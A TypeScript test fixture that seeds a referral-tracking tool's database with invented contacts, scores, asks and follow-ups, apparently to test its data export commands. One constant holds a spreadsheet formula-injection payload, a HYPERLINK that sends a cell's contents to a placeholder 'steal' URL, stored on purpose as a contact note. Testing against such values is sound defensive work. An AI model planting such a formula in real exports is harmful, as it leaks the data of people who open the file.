// A small but complete database for the data commands: every table holds rows, the names of
// people appear in notes, moments and script snapshots, and values that a spreadsheet would
// run as a formula are stored on purpose. All people are invented.
import { expect } from 'vitest';
import { openDb } from '../../src/db/open.js';
import { insertAsk } from '../../src/db/repos/asks.js';
import { insertFollowup } from '../../src/db/repos/followups.js';
import type { Sandbox } from '../support/run.js';

export const now = new Date('2026-11-25T10:00:00Z');
export const FORMULA_NOTE = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click")';

export async function seed(s: Sandbox): Promise<void> {
  const ok = async (args: string[]) => {
    const r = await s.run(args, { now });
    expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
  };
  await ok(['init', '--no-input', '--name', 'Eva Jansen', '--company', 'Routewise', '--offer', 'route planning', '--value', 'fewer empty kilometres']);
  await ok(['profile', 'set', '--in', 'nl', '--offer', 'routeplanning', '--value', 'minder lege kilometers']);
  await ok(['icp', 'set', '--titles', 'CEO,COO', '--industries', 'logistics', '--regions', 'Netherlands']);
  await ok(['relation', 'add', 'Sanne Visser', '--company', 'Visser Transport', '--kind', 'client', '--trust', '5', '--knows-audience', '--seller', '--sees-value', '--experienced-value', '--note', FORMULA_NOTE]);
  await ok(['relation', 'add', 'Bram Kok', '--trust', '3', '--no-input', '--note', 'Met him through Sanne Visser at the fair.\nSecond line, "quoted".']);
  await ok(['relation', 'edit', 'Sanne Visser', '--role', 'Operations director']);
  await ok(['nps', 'Sanne Visser', '9', '--comment', '+31 6 1234 5678 is her mobile', '--date', '2026-11-20']);
  await ok(['nps', 'Bram Kok', '7', '--comment', 'Sanne Visser told me about you', '--date', '2026-11-21']);
  await ok(['moment', 'Sanne Visser', 'Our drivers get home on time now', '--kind', 'compliment', '--date', '2026-11-22']);
  await ok(['moment', 'Bram Kok', '@Sanne Visser said the same', '--date', '2026-11-23']);
  await ok(['connection', 'add', 'Sanne Visser', 'Pieter de Groot', '--title', 'COO', '--company', 'De Groot Logistiek', '--size', '140', '--linkedin', 'https://www.linkedin.com/in/pieter-de-groot']);
  await ok(['connection', 'add', 'Sanne Visser', 'Ilse Vermeulen', '--title', '-CEO-', '--company', 'Vermeulen BV']);
  await ok(['connection', 'add', 'Bram Kok', 'Femke Smit', '--title', 'CEO', '--company', 'Smit Koeriers']);

  const db = openDb(s.db);
  db.transaction(() => {
    const sanne = insertAsk(
      db,
      {
        relationId: 1,
        channel: 'email',
        kind: 'referral',
        template: 'referral/email.en',
        lang: 'en',
        askedAt: new Date('2026-11-24T09:00:00Z'),
        script: 'Hi Sanne,\n\nWould you introduce me to Pieter de Groot and Ilse Vermeulen?\n\nEva',
        forward: 'Pieter, meet Eva Jansen of Routewise.',
        connectionIds: [1, 2],
      },
      now,
    );
    const bram = insertAsk(
      db,
      {
        relationId: 2,
        channel: 'call',
        kind: 'referral',
        template: 'referral/call.en',
        lang: 'en',
        askedAt: new Date('2026-11-24T11:00:00Z'),
        script: 'Hi Bram, Sanne Visser said you know Femke Smit. Would you introduce me to Femke?',
        forward: 'Femke, meet Eva (SANNE VISSER knows her work).',
        connectionIds: [3],
      },
      now,
    );
    insertFollowup(db, { relationId: 1, askId: sanne.askId, dueAt: new Date('2026-11-27T09:00:00Z'), durationMinutes: 15, note: '\ncall Sanne' }, now);
    insertFollowup(db, { relationId: 2, askId: bram.askId, dueAt: new Date('2026-11-27T10:00:00Z'), durationMinutes: 30, note: 'ask Bram how sanne visser reacted' }, now);
    db.prepare("UPDATE referrals SET stage = 'agreed', reached = 'agreed', agreed_at = ?, value = 1250.5 WHERE id = ?").run('2026-11-25T08:00:00.000Z', bram.referralIds[0]);
    db.prepare("INSERT INTO referral_events (referral_id, stage, at, note, forced, created_at) VALUES (?, 'agreed', ?, ?, 1, ?)").run(
      bram.referralIds[0],
      '2026-11-25T08:00:00.000Z',
      'Femke Smit agreed after Sanne Visser vouched',
      now.toISOString(),
    );
    db.prepare("INSERT INTO playbook_progress (relation_id, step, state, updated_at) VALUES (2, 'ask', ?, ?)").run(
      JSON.stringify({ draft: 'Mention Sanne Visser first', picked: [3] }),
      now.toISOString(),
    );
  }).immediate();
  db.close();
}
